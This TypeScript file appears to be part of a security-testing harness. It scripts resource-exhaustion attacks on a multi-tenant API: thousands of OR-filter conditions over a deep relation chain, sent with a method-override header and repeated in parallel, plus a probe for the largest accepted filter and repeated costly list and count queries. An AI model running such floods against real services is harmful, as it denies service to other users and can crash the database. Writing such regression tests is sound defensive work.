import type { Attack, Attacker } from '../attack'
import type { Reply } from '../client'

const path = 'lead.customer.deals.vehicle.listings.seller'

/** Along a chain of five relations, each of which tenancy adds a subquery to. */
const filterOf = (conditions: number): string =>
  Array.from({ length: conditions }, (_, at) => `where[or][${at}][${path}][like]=x${at}`).join('&')

/** A read by POST, for filters that are too long for an address. */
const ask = (
  { send, target }: Attacker,
  client: ReturnType<Attacker['open']>,
  filter: string,
): Promise<Reply> =>
  send(client, 'POST', '/api/messages?limit=10', {
    body: filter,
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      'x-http-method-override': 'GET',
    },
    key: target.keys.readerOfOne,
  })

/** Twelve at once of 1,660 conditions, 148 KB: had Postgres killed for memory. */
export const dearFilters: Attack = {
  finding: '2',
  name: 'dear-filters',
  async script(attacker) {
    const client = attacker.open()
    const filter = filterOf(1660)
    await attacker.repeat(12, () => ask(attacker, client, filter))
  },
}

/** The dearest that is still taken, twelve at once: a limit has to leave the others their service. */
export const filtersBelowTheLimit: Attack = {
  finding: '2',
  name: 'filters-below-the-limit',
  async script(attacker) {
    const client = attacker.open()
    let conditions = 512
    while (conditions > 1) {
      const { status } = await ask(attacker, client, filterOf(conditions))
      if (status !== 400 && status !== 413 && status !== 414) break
      conditions = Math.floor(conditions / 2)
    }
    await attacker.repeat(12, () => ask(attacker, client, filterOf(conditions)))
  },
}

/** Legal and dear in another way: text looked for in every record, sorted by text, far down, and counted. */
export const dearLists: Attack = {
  finding: '2',
  name: 'dear-lists',
  async script(attacker) {
    const { open, repeat, send, target } = attacker
    const client = open({ key: target.keys.readerOfOne })
    const lists = [
      '/api/leads?where[notes][contains]=zzz&limit=500&depth=2',
      '/api/deals?sort=salesPrice&limit=500&page=150&depth=1',
      '/api/leads?where[customer.deals.vehicle.listings.seller][like]=Seller&limit=500',
      '/api/deals/count?where[customer.deals.vehicle.listings.seller][like]=Seller%209',
    ]
    await repeat(24, (line, round) => send(client, 'GET', lists[(line + round) % lists.length] ?? ''))
  },
}
